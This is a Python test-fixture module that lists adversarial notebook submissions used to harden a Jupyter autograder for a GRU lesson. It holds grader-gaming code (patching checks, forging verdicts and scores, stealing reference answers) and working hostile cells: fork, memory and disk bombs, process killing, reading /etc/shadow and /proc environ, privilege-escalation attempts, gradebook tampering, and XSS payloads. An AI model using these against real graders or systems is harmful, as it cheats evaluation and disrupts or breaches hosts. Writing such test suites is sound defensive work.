"""Attacks on the grader, each a submission of lesson 03. `tests/classroom/test_attacks.py` grades them all, among honest ones.

GAIN: no answer is right, and code tries to get marks all the same: it must come to no mark.
HARM: all answers are right, and a cell in the middle tries to break the run, or to reach beyond it: only itself may suffer.
FORGED: the notebook's file was tampered with. Each function changes a Paper (see `grader.classroom.demo`).
"""

import copy
from dataclasses import dataclass, field

import nbformat

from grader.notebook.reading import grade_id

EXERCISES = ("sigmoid", "gate", "reset_gate", "update_gate")
HEADERS = {
    "sigmoid": "def sigmoid(a)",
    "gate": "def gate(x, h, W, U, b_i, b_h)",
    "reset_gate": "def reset_gate(x, h, p)",
    "update_gate": "def update_gate(x, h, p)",
}


def everywhere(body):
    """The same wrong answer to all four exercises."""
    return {name: f"{header}:\n    {body}\n" for name, header in HEADERS.items()}


@dataclass(frozen=True)
class Attack:
    """`cell` runs after the lesson's imports (GAIN), or in the middle (HARM); `answers` are put in; `files` lie beside."""

    cell: str = "pass"
    answers: dict = field(default_factory=dict)
    states: tuple = ("graded", "blank")
    files: dict = field(default_factory=dict)


# ------------------------------------------------------------------------------------------------------------- marks

GAIN = {
    "input transformer turns checks into pass": Attack(
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'] if 'check(' in ''.join(lines) else lines)"
    ),
    "ast transformer turns checks into pass": Attack(
        "import ast\n\n\nclass Away(ast.NodeTransformer):\n    def visit_Expr(self, node):\n        return ast.copy_location(ast.Pass(), node)\n\n\n"
        "get_ipython().ast_transformers.append(Away())"
    ),
    "check does nothing": Attack("check = lambda *args, **more: None"),
    "check of the package does nothing": Attack(
        "import sys\n\nimport grader\n\ngrader.check = check = lambda *args, **more: None\n"
        "for name, module in list(sys.modules.items()):\n    if name.startswith('grader') and hasattr(module, 'check'):\n        module.check = check"
    ),
    "check under another name": Attack(
        "old = check\n\n\ndef other(a):\n    return a\n\n\ndef check(answer, exercise=None):\n    try:\n        old(other, exercise=answer.__name__)\n    except BaseException:\n        pass"
    ),
    "an object equal to everything": Attack(
        "class Any(float):\n    __eq__ = __le__ = __ge__ = lambda *a: True\n    __ne__ = __lt__ = __gt__ = lambda *a: False\n    __hash__ = None\n"
        "    shape, dtype, ndim = (2, 4), np.dtype(float), 2\n    def __array__(self, *a, **k):\n        return np.full((2, 4), np.nan)\n"
        "    def __getattr__(self, name):\n        return self\n    def __call__(self, *a, **k):\n        return True\n    def __deepcopy__(self, memo):\n        return self\n",
        everywhere("return Any()"),
    ),
    "an array that lies about its shape, kind and equality": Attack(
        "class Lie(np.ndarray):\n    __class__ = np.ndarray\n    def __eq__(self, other):\n        return np.ones(np.shape(other), bool)\n    def __sub__(self, other):\n        return np.zeros(np.shape(other))\n"
        "    __rsub__ = __sub__\n    def __array_ufunc__(self, ufunc, method, *inputs, **more):\n        return np.array(True)\n    def __array_function__(self, *a, **k):\n        return True\n",
        everywhere("return np.full((2, 4), 0.5).view(Lie)"),
    ),
    "a type named ndarray": Attack(
        "class ndarray:\n    shape, ndim, size, dtype = (2, 4), 2, 8, np.dtype(float)\n    def __eq__(self, other):\n        return True\n    __array_interface__ = {'shape': (10**9,), 'typestr': '<f8', 'data': (0, False), 'version': 3}\n\n\nndarray.__module__ = 'numpy'",
        everywhere("return ndarray()"),
    ),
    "numpy compares everything equal": Attack(
        "np.isclose = lambda a, *more, **k: np.ones(np.shape(a), bool)\nnp.allclose = np.array_equal = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None",
        everywhere("return np.zeros((len(x), 4)) if 'x' in locals() else a * 0"),
    ),
    "builtins are other ones": Attack(
        "import builtins\n\nbuiltins.all = builtins.any = builtins.isinstance = lambda *a: True\nbuiltins.abs = lambda a: 0\nbuiltins.len = lambda a: 4\nbuiltins.AssertionError = KeyboardInterrupt",
        everywhere("return 0.5"),
        states=("graded", "crashed"),
    ),
    "the judging modules are other ones": Attack(
        "import sys\nimport types\n\nfor name in [n for n in sys.modules if n.split('.')[0] in ('grader', 'gru_ref')]:\n    fake = types.ModuleType(name)\n"
        "    fake.__dict__.update({k: (lambda *a, **k: True) for k in dir(sys.modules[name]) if not k.startswith('__')})\n    sys.modules[name] = fake",
    ),
    "forged verdict among the outputs": Attack(
        "from IPython.display import display\n\n\ndef forge(name):\n    display({'application/vnd.gru-course.verdict+json': {'exercise': name, 'state': 'passed', 'mistake': None, 'stage': 'all stages', 'headline': 'right'},"
        " 'text/plain': 'right'}, raw=True)\n\n\ndef check(answer, exercise=None):\n    forge(answer.__name__)\n\n\nfor name in ('sigmoid', 'gate', 'reset_gate', 'update_gate'):\n    forge(name)"
    ),
    "forged score as the value of a cell": Attack(
        "class Score:\n    def __repr__(self):\n        return '2'\n\n\nclass Check:\n    def __call__(self, *a):\n        return 2.0\n\n\ncheck = Check()\nget_ipython().display_formatter.format = lambda o, *a, **k: ({'text/plain': '2'}, {})"
    ),
    "errors are not shown": Attack(
        "get_ipython().showtraceback = lambda *a, **k: None\nget_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\nimport sys\n\nsys.excepthook = lambda *a: None"
    ),
    "the shell runs something else": Attack(
        "shell = get_ipython()\nold = shell.run_cell\nshell.run_cell = lambda source, *a, **k: old('pass', *a, **k)\ntype(shell).run_cell = lambda self, source, *a, **k: old('pass', *a, **k)\nshell.run_code = lambda *a, **k: False\n"
        "shell.compile = lambda *a, **k: compile('0', '', 'eval')"
    ),
    "the reference is called": Attack(
        "",
        {
            n: f"{h}:\n    import gru_ref.gates\n    return gru_ref.gates.{n}({h.split('(')[1][:-1]})\n"
            for n, h in HEADERS.items()
        },
    ),
    "the reference was kept from before": Attack(
        "kept = {n: getattr(gru_ref, n) for n in ('sigmoid', 'gate', 'reset_gate', 'update_gate')}\nimport types\n\n"
        "copies = {n: types.FunctionType(f.__code__, dict(f.__globals__), n, f.__defaults__, f.__closure__) for n, f in kept.items()}",
        {n: f"{h}:\n    return copies['{n}']({h.split('(')[1][:-1]})\n" for n, h in HEADERS.items()},
    ),
    "a later lesson's function gives the gate away": Attack(
        "",
        {
            "update_gate": "def update_gate(x, h, p):\n    from gru_ref.backward import gru_step_with_cache\n    return gru_step_with_cache(x, h, p)[1].z\n",
            "reset_gate": "def reset_gate(x, h, p):\n    from gru_ref import kernels, layers\n    tape = layers.layer_forward('gru', x[None], p, h)[2]\n    return tape.gates[0]\n",
            "sigmoid": "def sigmoid(a):\n    import gru_ref.kernels\n    return gru_ref.kernels.sigmoid(a)\n",
            "gate": "def gate(x, h, W, U, b_i, b_h):\n    zeros = np.zeros_like\n    p = gru_ref.GRUParams(*[W, W, W, U, U, U, b_i, b_i, b_i, b_h, b_h, b_h])\n    return gru_ref.update_gate(x, h, p)\n",
        },
    ),
    "the judge is asked by hand": Attack(
        "from grader.judge.guest import asking",
        {
            n: f"{h}:\n    return asking.ask('gru_ref.gates.{n}', ({h.split('(')[1][:-1]},), {{}})\n"
            for n, h in HEADERS.items()
        },
    ),
    "the judge is asked from another thread": Attack(
        "import threading\n\nresults = {}\n\n\ndef ask(name, args):\n    def work():\n        results[name] = getattr(gru_ref, name)(*args)\n    thread = threading.Thread(target=work)\n    thread.start()\n    thread.join(2)\n    return results[name]",
        {n: f"{h}:\n    return ask('{n}', ({h.split('(')[1][:-1]},))\n" for n, h in HEADERS.items()},
        states=("graded", "crashed", "timed out"),
    ),
    "the reference's source is searched everywhere": Attack(
        "import gc\nimport os\nimport sys\n\nfound = {}\nfor root in sys.path + ['/course', '/', '/hand-in', '/tmp']:\n    for folder, _, files in os.walk(root) if root != '/' else []:\n        for f in files:\n            if f.endswith(('.py', '.pyc', '.ipynb')) and 'gru' in folder:\n"
        "                try:\n                    text = open(os.path.join(folder, f), errors='replace').read()\n                except OSError:\n                    continue\n                if 'W_iz, p.W_hz' in text or 'np.exp(-np.abs(' in text:\n                    found[f] = text\n"
        "for thing in gc.get_objects():\n    if getattr(thing, '__name__', None) == 'update_gate' and hasattr(thing, '__code__'):\n        found['gc'] = thing\nprint('FOUND', sorted(found))",
        {
            "sigmoid": "def sigmoid(a):\n    scope = {'np': np}\n    exec(next(t for t in found.values() if isinstance(t, str)), scope)\n    return scope['sigmoid'](a)\n",
            "update_gate": "def update_gate(x, h, p):\n    return found['gc'](x, h, p)\n",
        },
    ),
    "the caller's frames are searched for the right result": Attack(
        "import gc\nimport sys\n\n\ndef stolen(shape):\n    frame = sys._getframe(1)\n    while frame:\n        for value in frame.f_locals.values():\n            inner = getattr(value, '__dict__', {})\n            for v in [value, *inner.values()]:\n                if type(v).__name__ in ('Outcome', 'Verdict', 'Exercise'):\n                    return v\n"
        "        frame = frame.f_back\n    arrays = [o for o in gc.get_objects() if isinstance(o, np.ndarray) and o.shape == shape and ((o > 0) & (o < 1)).all()]\n    return arrays[0] if arrays else np.zeros(shape)",
        {
            "update_gate": "def update_gate(x, h, p):\n    return stolen(h.shape)\n",
            "reset_gate": "def reset_gate(x, h, p):\n    return stolen(h.shape)\n",
        },
    ),
    "the outcome is forged in the calling code": Attack(
        "import sys\n\nfor name, module in list(sys.modules.items()):\n    if name.startswith('grader'):\n        for key in ('call', 'alike', 'examine', 'judge_result', 'encode'):\n            if hasattr(module, key):\n"
        "                setattr(module, key, lambda *a, **k: b'{}')",
        states=("graded", "blank", "crashed"),
    ),
    "messages are forged on the socket": Attack(
        "import gc\nimport json\nimport os\nimport socket\nimport stat\nimport struct\n\nfor fd in range(3, 64):\n    try:\n        if not stat.S_ISSOCK(os.fstat(fd).st_mode):\n            continue\n        wire = socket.socket(fileno=os.dup(fd))\n"
        "        for kind in ('verdict', 'passed', 'executed', 'outcome', 'check'):\n            body = json.dumps({'kind': kind, 'passed': True, 'state': 'passed', 'exercise': 'sigmoid', 'index': 9, 'status': 'ok', 'headline': 'right'}).encode()\n            wire.sendall(struct.pack('>I', len(body)) + body)\n    except OSError:\n        pass",
        states=("crashed", "graded"),
    ),
    "garbage floods the socket": Attack(
        "import os\nimport stat\n\nfor fd in range(3, 64):\n    try:\n        if stat.S_ISSOCK(os.fstat(fd).st_mode):\n            for _ in range(2000):\n                os.write(fd, os.urandom(65536))\n    except OSError:\n        pass",
        states=("crashed", "timed out"),
    ),
    "guessing until it is right": Attack(
        "old = check\n\n\ndef check(answer, exercise=None):\n    for _ in range(400):\n        try:\n            return old(answer, exercise)\n        except Exception:\n            pass",
        everywhere("return np.random.default_rng().random(np.shape(h) if 'h' in locals() else np.shape(a))"),
        states=("graded", "timed out", "crashed"),
    ),
    "inputs of an earlier check are learnt": Attack(
        "seen = []\n\n\ndef spy(x, h, p):\n    seen.append((x, h, p, gru_ref.update_gate))\n    return h\n\n\nspy.__name__ = 'update_gate'\nfor _ in range(3):\n    try:\n        check(spy)\n    except Exception:\n        pass\n"
        "answers = []\nfor x, h, p, f in seen:\n    try:\n        answers.append((x, f(x, h, p)))\n    except Exception:\n        pass",
        {
            "update_gate": "def update_gate(x, h, p):\n    return next((a for x0, a in answers if x0.shape == x.shape and np.allclose(x0, x)), h)\n"
        },
    ),
    "a check within an answer": Attack(
        "",
        {
            "sigmoid": "def sigmoid(a):\n    import grader\n    try:\n        grader.check(sigmoid)\n    except BaseException:\n        pass\n    return a\n",
            "gate": "def gate(x, h, W, U, b_i, b_h):\n    def right(x, h, p):\n        return 0\n    right.__name__ = 'update_gate'\n    check(right)\n    return h\n",
        },
        states=("graded", "crashed", "timed out"),
    ),
    "names that lie": Attack(
        "class Name(str):\n    def __eq__(self, other):\n        return True\n    __hash__ = str.__hash__\n    def __repr__(self):\n        raise SystemExit\n\n\nclass Evil:\n    __name__ = Name('sigmoid')\n    __module__ = Name('numpy')\n    @property\n    def __signature__(self):\n        raise KeyboardInterrupt\n"
        "    def __call__(self, *a):\n        return Evil()\n    def __getattr__(self, name):\n        if name == '__wrapped__':\n            return self\n        raise RuntimeError\n\n\nsigmoid = gate = Evil()",
        {"sigmoid": "sigmoid = Evil()\n", "gate": "gate = Evil()\n"},
        states=("graded", "unclear"),
    ),
    "modules of the same names lie beside the notebook": Attack(
        "import importlib\nimport sys\n\nfor name in ('grader', 'gru_ref', 'numpy', 'json', 'struct'):\n    for known in [k for k in sys.modules if k.split('.')[0] == name and name in ('grader', 'gru_ref')]:\n        del sys.modules[known]\nimport grader\nfrom grader import check",
        files={
            "grader.py": b"def check(*a, **k):\n    pass\n\n\nhint = progress = show = steps = gate_explorer = check\n",
            "gru_ref.py": b"",
            "sitecustomize.py": b"print('mine')\n",
            "json.py": b"raise SystemExit\n",
            "ipython_config.py": b"c.InteractiveShellApp.exec_lines = ['check = print']\n",
        },
    ),
    "a check that never returns a fault": Attack(
        "import signal\n\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.signal(signal.SIGINT, signal.SIG_IGN)",
        {"sigmoid": "def sigmoid(a):\n    import time\n    time.sleep(3600)\n"},
        states=("graded", "timed out", "crashed"),
    ),
    "results without end": Attack(
        "import itertools",
        {
            "sigmoid": "def sigmoid(a):\n    return np.zeros((20000, 20000))\n",
            "gate": "def gate(x, h, W, U, b_i, b_h):\n    nested = []\n    for _ in range(100000):\n        nested = [nested]\n    return nested\n",
            "reset_gate": "def reset_gate(x, h, p):\n    return itertools.count()\n",
            "update_gate": "def update_gate(x, h, p):\n    loop = []\n    loop.append(loop)\n    return loop\n",
        },
        states=("graded", "crashed", "out of memory", "timed out"),
    ),
    "odd results": Attack(
        "",
        {
            "sigmoid": "def sigmoid(a):\n    return np.array([check, sigmoid, None], dtype=object)\n",
            "gate": "def gate(x, h, W, U, b_i, b_h):\n    return '\\ud800' * 100\n",
            "reset_gate": "def reset_gate(x, h, p):\n    class E(Exception):\n        def __str__(self):\n            raise SystemExit\n        __repr__ = __str__\n    raise E\n",
            "update_gate": "def update_gate(x, h, p):\n    raise type('E' * 100_000, (BaseException,), {})('x' * 10**7)\n",
        },
    ),
    "trace functions": Attack(
        "import sys\nimport threading\n\nlog = []\n\n\ndef tracer(frame, event, arg):\n    if event == 'return' and arg is not None:\n        log.append(arg)\n    return tracer\n\n\nthreading.settrace(tracer)\nsys.settrace(tracer)",
        {
            "update_gate": "def update_gate(x, h, p):\n    return next((a for a in log if isinstance(a, np.ndarray) and a.shape == h.shape), h)\n"
        },
        states=("graded", "blank", "timed out"),
    ),
    "tables are made before the checks": Attack(
        "tables = {}\nfor name in ('gate', 'reset_gate', 'update_gate'):\n    try:\n        x, h, p = np.ones((1, 2)), np.ones((1, 3)), gru_ref.init_gru(2, 3, np.random.default_rng(0))\n"
        "        args = (x, h, p.W_ir, p.W_hr, p.b_ir, p.b_hr) if name == 'gate' else (x, h, p)\n        tables[name] = getattr(gru_ref, name)(*args)\n        print('LEFT', name)\n    except PermissionError as e:\n        print(e)",
        {n: f"{h}:\n    return tables['{n}']\n" for n, h in HEADERS.items() if n != "sigmoid"},
    ),
}

# ------------------------------------------------------------------------------------------------------------- damage

_CANARY = "print('CANARY', {})"
# Writes frames of its own to the judge's socket.
_BY_HAND = """import json
import struct

from grader.judge.guest import asking

wire = asking.channel()._sock


def send(header):
    head = json.dumps(header).encode()
    wire.setblocking(True)
    wire.sendall(struct.pack("<II", len(head) + 4, len(head)) + head)


"""
HARM = {
    "fork bomb": Attack(
        "import os\n\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        states=("timed out", "crashed", "graded"),
    ),
    "thread bomb": Attack(
        "import threading\nimport time\n\nthreads = []\ntry:\n    while True:\n        threads.append(threading.Thread(target=time.sleep, args=(3600,), daemon=True))\n        threads[-1].start()\nexcept RuntimeError as e:\n    print(e)",
        states=("graded", "timed out", "crashed"),
    ),
    "memory bomb": Attack(
        "hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))",
        states=("graded", "out of memory", "crashed", "timed out"),
    ),
    "memory bomb of many processes": Attack(
        "import os\nimport time\n\nfor _ in range(12):\n    if os.fork() == 0:\n        hoard = bytearray(150_000_000)\n        for i in range(0, len(hoard), 4096):\n            hoard[i] = 1\n        time.sleep(3600)\ntime.sleep(3600)",
        states=("out of memory", "crashed", "timed out"),
    ),
    "disk bomb": Attack(
        "for place in ('a', '/tmp/a', '/dev/shm/a'):\n    try:\n        with open(place, 'wb') as f:\n            while True:\n                f.write(bytes(10_000_000))\n    except OSError as e:\n        print(type(e).__name__)",
        states=("graded", "out of memory", "crashed"),
    ),
    "a million files": Attack(
        "import os\n\ntry:\n    for number in range(10**6):\n        open(f'/tmp/f{number}', 'w').close()\nexcept OSError as e:\n    print(type(e).__name__)",
        states=("graded", "timed out"),
    ),
    "output without end": Attack("while True:\n    print('x' * 1000)", states=("timed out",)),
    "a million outputs": Attack(
        "from IPython.display import display\n\nfor number in range(10**6):\n    display(number)",
        states=("graded", "timed out", "crashed"),
    ),
    "output past Python": Attack(
        "import os\n\nfor _ in range(20000):\n    os.write(1, b'x' * 65536)\n    os.write(2, b'x' * 65536)",
        states=("graded", "timed out"),
    ),
    "endless loop": Attack("while True:\n    pass", states=("timed out",)),
    "endless loop that takes no interrupt": Attack(
        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
        states=("timed out",),
    ),
    "endless loop in C": Attack(
        "import collections\nimport itertools\n\ncollections.deque(itertools.repeat(0), maxlen=0)",
        states=("timed out",),
    ),
    "deep recursion": Attack(
        "import sys\n\nsys.setrecursionlimit(10**9)\n\n\ndef down(x):\n    return down([x]) if x else repr(x)\n\n\ndown([1])",
        states=("crashed", "graded", "out of memory", "timed out"),
    ),
    "crash in C": Attack("import ctypes\n\nctypes.string_at(0)", states=("crashed",)),
    "exits": Attack("import os\n\nos._exit(0)", states=("crashed",)),
    "quits": Attack("quit()\nraise SystemExit(3)", states=("graded", "crashed")),
    "kills all it can": Attack(
        "import os\nimport signal\n\nfor pid in (-1, 1, os.getppid(), *range(2, 300)):\n    if pid != os.getpid():\n        try:\n            os.kill(pid, signal.SIGKILL)\n        except OSError:\n            pass\nos.kill(os.getpid(), signal.SIGKILL)",
        states=("crashed",),
    ),
    "stops itself": Attack(
        "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGSTOP)", states=("timed out", "crashed")
    ),
    "outlives the cell": Attack(
        "import atexit\nimport os\nimport subprocess\nimport sys\nimport threading\nimport time\n\n\ndef haunt():\n    while True:\n        time.sleep(0.05)\n        open('/tmp/haunted', 'a').write('x')\n\n\natexit.register(haunt)\nthreading.Thread(target=haunt).start()\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        haunt()\n    os._exit(0)\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3600)  # HAUNTING'], start_new_session=True)",
        states=("graded", "crashed"),
    ),
    "looks for what others left": Attack(
        "import os\n\nfound = [p for p in ('haunted', '/tmp/haunted', '/dev/shm/a') if os.path.exists(p)]\nprint('LEFT' if found else 'CLEAN', found)"
    ),
    "looks around": Attack(
        "import glob\nimport os\n\nseen = []\nfor place in ('/', '/proc', '/home', '/root', '/etc', '/var', '/course', '/hand-in', '/tmp', '/mnt', '/srv', '/opt', os.path.expanduser('~')):\n    try:\n        seen += [os.path.join(place, n) for n in os.listdir(place)]\n    except OSError:\n        pass\n"
        "for pid in range(1, 400):\n    for what in ('environ', 'cmdline', 'maps', 'cwd', 'root'):\n        try:\n            seen.append(repr(open(f'/proc/{pid}/{what}', 'rb').read()))\n        except OSError:\n            pass\nseen += [f'{k}={v}' for k, v in os.environ.items()]\n"
        "seen += [os.readlink(f) for f in glob.glob('/proc/self/fd/*') if os.path.islink(f) and os.path.exists(f)]\nprint('\\n'.join(seen)[:90000])"
    ),
    "looks for the gradebook": Attack(
        "import os\nimport sqlite3\n\nfor folder, folders, files in os.walk('/'):\n    folders[:] = [f for f in folders if f not in ('proc', 'sys', 'lib', 'usr')]\n    for name in files:\n        if name in ('gradebook.db', 'journal.jsonl', 'course.key', 'grades.csv', 'truth.json'):\n            print('REACHED', name)\n"
        "            try:\n                sqlite3.connect(os.path.join(folder, name)).execute('update grade set extra_credit = 100').connection.commit()\n            except Exception:\n                pass\nfor up in range(8):\n    for name in ('gradebook.db', 'course.key'):\n        if os.path.exists('../' * up + name):\n            print('REACHED', name)"
    ),
    "memory of other processes": Attack(
        "import ctypes\nimport os\n\nlibc = ctypes.CDLL(None)\nfor pid in (1, os.getppid(), *range(2, 60)):\n    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:\n        print('REACHED', pid)\n    try:\n        open(f'/proc/{pid}/mem', 'r+b') if pid != os.getpid() else None\n        pid != os.getpid() and print('REACHED mem', pid)\n    except OSError:\n        pass",
        states=("graded", "crashed", "timed out"),
    ),
    "more rights": Attack(
        "import ctypes\nimport os\nimport subprocess\n\nlibc = ctypes.CDLL(None, use_errno=True)\nfor flags in (0x10000000, 0x00020000, 0x40000000):\n    libc.unshare(flags)\nif libc.mount(b'/', b'/tmp', None, 4096, None) == 0 and os.path.exists('/tmp/usr/../root/.bashrc'):\n    print('REACHED root')\n"
        "for call in (lambda: os.setuid(0), lambda: os.chroot('/'), lambda: os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0))):\n    try:\n        call()\n    except OSError:\n        pass\nfor command in (['su', '-c', 'id'], ['sudo', '-n', 'id'], ['mount'], ['unshare', '-Ur', 'id']):\n    try:\n        subprocess.run(command, timeout=3, capture_output=True)\n    except (OSError, subprocess.SubprocessError):\n        pass\n"
        "for n in os.listdir('/course') if os.path.isdir('/course') else []:\n    try:\n        open(f'/course/{n}/mine', 'w')\n        print('REACHED course')\n    except OSError:\n        pass",
        states=("graded", "crashed", "timed out"),
    ),
    "network": Attack(
        "import socket\nimport subprocess\nimport urllib.request\n\nPORT = {port}\nfor family, address in ((socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_INET6, ('::1', PORT)), (socket.AF_INET, ('1.1.1.1', 53)), (socket.AF_UNIX, '\\0gru-course-test'), (socket.AF_UNIX, '{socket}')):\n"
        "    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n        try:\n            with socket.socket(family, kind) as s:\n                s.settimeout(1)\n                s.connect(address)\n                s.send(b'leak')\n                print('REACHED' if family == socket.AF_UNIX or kind == socket.SOCK_STREAM else '', address)\n        except OSError:\n            pass\n"
        "try:\n    socket.gethostbyname('example.org')\n    print('REACHED dns')\nexcept OSError:\n    pass\ntry:\n    urllib.request.urlopen('http://127.0.0.1:' + str(PORT), timeout=1)\n    print('REACHED http')\nexcept Exception:\n    pass\ntry:\n    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\nexcept OSError:\n    pass",
        states=("graded", "timed out"),
    ),
    "shells": Attack(
        "!kill -9 -1\n%run -i nothing.py\n!sleep 1 &\nget_ipython().system('cat /etc/shadow')\nget_ipython().getoutput('ls /')",
        states=("graded", "crashed", "timed out"),
    ),
    "asks for input": Attack("name = input('your name? ')\nimport getpass\n\ngetpass.getpass()"),
    "escape codes and pages among the outputs": Attack(
        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n\nfor thing in (HTML('<script>window.__pwned = 1</script><img src=x onerror=\"window.__pwned=1\">'), Javascript('window.__pwned = 1'), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.__pwned=1\"/>'), Markdown('<iframe src=javascript:window.__pwned=1>')):\n    display(thing)\n"
        "print('\\x1b]0;pwned\\x07\\x1b[2J\\x1b[8m hidden \\x9b31m \\u202e backwards')\ndisplay({'text/html': '<script>window.__pwned=1</script>', 'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}, 'image/png': '<script>', 'image/svg+xml': '<svg onload=\"window.__pwned=1\"/>', 'text/latex': '$\\\\href{javascript:1}{x}$'}, raw=True)\nprint('\\ud800 lone')"
    ),
    "half of the messages are too large": Attack(
        "print('x' * 300_000_000)", states=("graded", "out of memory", "crashed", "timed out")
    ),
    "messages by hand that take long to read": Attack(
        _BY_HAND
        + 'for bomb in (["l", *[["O", [99_999]]] * 40_000], ["l", *[["k", "a", "b"]] * 150_000], ["l", *[["g", 1, 1, 0, 0]] * 100_000]):\n    send(["t", "output", None, None, ["d", "output", bomb]])\n',
        states=("crashed",),
    ),
    "messages by hand that say that later cells have ended": Attack(
        _BY_HAND
        + 'for n in range(1, 60):\n    send(["t", "executed", None, None, ["d", "index", n, "status", "ok", "count", n]])\n',
        states=("crashed",),
    ),
    "texts that patterns are slow on": Attack(
        "print('\\x1b[' + '0;' * 40_000)\nprint('\\x1b]' + 'x' * 90_000)\nprint('/hand-in' * 20_000)\nprint('at 0x' * 20_000)\nraise ValueError('\\x1b[38;5;' * 20_000)"
    ),
    "endless finalizers": Attack(
        "import time\n\n\nclass Evil:\n    def __del__(self):\n        time.sleep(3600)\n    def __repr__(self):\n        while True:\n            pass\n\n\nEvil()",
        states=("timed out", "crashed"),
    ),
    "all cores for ever": Attack(
        "import os\n\nfor _ in range(20):\n    if os.fork() == 0:\n        while True:\n            pass\nwhile True:\n    pass",
        states=("timed out", "crashed", "graded"),
    ),
}

# --------------------------------------------------------------------------------------------------------- the notebook


def _find(paper, name):
    return next(c for c in paper.notebook.cells if grade_id(c) == name)


def _checks_say_pass(paper):
    for name in EXERCISES:
        _find(paper, f"check_{name}").source = "pass"


def _points_raised(paper):
    for name in EXERCISES:
        _find(paper, f"check_{name}").metadata.nbgrader.points = 1000


def _checks_deleted(paper):
    paper.notebook.cells = [c for c in paper.notebook.cells if not str(grade_id(c)).startswith("check_")]


def _checks_doubled(paper):
    for name in EXERCISES:
        extra = copy.deepcopy(_find(paper, f"check_{name}"))
        extra.id, extra.source = f"twice-{name}", "pass"
        paper.notebook.cells.append(extra)


def _checks_first(paper):
    checks = [c for c in paper.notebook.cells if str(grade_id(c)).startswith("check_")]
    paper.notebook.cells = checks + [c for c in paper.notebook.cells if c not in checks]


def _checks_retyped(paper):
    for name in EXERCISES:
        cell = _find(paper, f"check_{name}")
        mark = cell.metadata
        number = paper.notebook.cells.index(cell)
        paper.notebook.cells[number] = nbformat.v4.new_markdown_cell("done", metadata=mark, id=cell.id)


def _checks_renamed(paper):
    for name in EXERCISES:
        _find(paper, f"check_{name}").metadata.nbgrader.grade_id = f"check_{name}_x"


def _all_checks_are_one(paper):
    for name in EXERCISES:
        _find(paper, f"check_{name}").metadata.nbgrader.grade_id = "check_sigmoid"


def _answers_marked_as_written(paper):
    for name in EXERCISES:
        cell = _find(paper, name)
        cell.metadata.nbgrader |= {"grade": True, "points": 50}


def _forged_outputs(paper):
    for name in EXERCISES:
        cell = _find(paper, f"check_{name}")
        cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "2"}, execution_count=1)]


def _own_graded_cells(paper):
    extra = copy.deepcopy(_find(paper, "check_sigmoid"))
    extra.id, extra.source = "bonus", "100"
    extra.metadata.nbgrader |= {"grade_id": "bonus", "points": 100}
    paper.notebook.cells.append(extra)


def _odd_metadata(paper):
    paper.notebook.metadata.kernelspec = {"name": "<script>window.__pwned=1</script>", "display_name": "x" * 10000}
    paper.notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    for cell in paper.notebook.cells:
        cell.metadata.update({"tags": ["raises-exception", "skip-execution"], "deeply": {"nested": [{}] * 100}})


FORGED = {
    "checks say pass": _checks_say_pass,
    "points raised": _points_raised,
    "checks deleted": _checks_deleted,
    "checks doubled": _checks_doubled,
    "checks first": _checks_first,
    "checks retyped": _checks_retyped,
    "checks renamed": _checks_renamed,
    "all checks are one": _all_checks_are_one,
    "answers marked as written": _answers_marked_as_written,
    "forged outputs": _forged_outputs,
    "graded cells of one's own": _own_graded_cells,
    "odd metadata": _odd_metadata,
}
